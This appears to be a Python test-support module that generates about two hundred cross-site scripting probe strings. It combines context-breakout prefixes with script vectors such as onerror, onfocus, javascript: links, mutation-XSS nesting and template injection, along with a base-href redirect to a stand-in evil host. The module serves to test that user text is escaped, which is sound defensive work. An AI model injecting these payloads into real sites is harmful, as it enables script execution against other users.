"""Two hundred texts by which somebody tries to run a script at whoever reads them; for S8."""

from collections.abc import Iterable

MARK = "x-planted"  # an element that is on a page only where somebody's text became markup
WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "</a></p>",
    "</textarea>",
    "</title></head>",
    "</code></pre>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "\\\"'>",
    "&quot;&#62;",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<x-planted autofocus tabindex=1 onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    " autofocus onfocus=alert(1) x=",
    " style=animation-name:x onanimationstart=alert(1) x=",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<base href=https://evil.example/><link rel=stylesheet href=x>",
)
SPECIAL = (
    "[x](javascript:alert(1))",
    '![x](x"onerror=alert(1))',
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<img/src/onerror=alert(1)>",
    '#"><img src=x onerror=alert(1)>',
    '@mina"><img src=x onerror=alert(1)>',
    "```</code></pre><img src=x onerror=alert(1)>```",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
)
PAYLOADS = (*(way + script for way in WAYS_OUT for script in SCRIPTS), *SPECIAL)
FEW = (*(way + SCRIPTS[n % len(SCRIPTS)] for n, way in enumerate(WAYS_OUT)), *SPECIAL)
"""Each way out of a text once, and each script: for what is dear to try."""

CLOSER = " \"'>--></textarea></title></style></script>\n"
ALL = CLOSER.join(PAYLOADS)
"""All in one: between two of them whatever the first has opened is closed."""


def chunks(payloads: Iterable[str], limit: int) -> list[str]:
    """Return them in texts of at most `limit` characters."""
    made = [""]
    for payload in payloads:
        joined = f"{made[-1]}\n{payload}".strip("\n")
        made = [*made[:-1], joined] if len(joined) <= limit else [*made, payload]
    return made
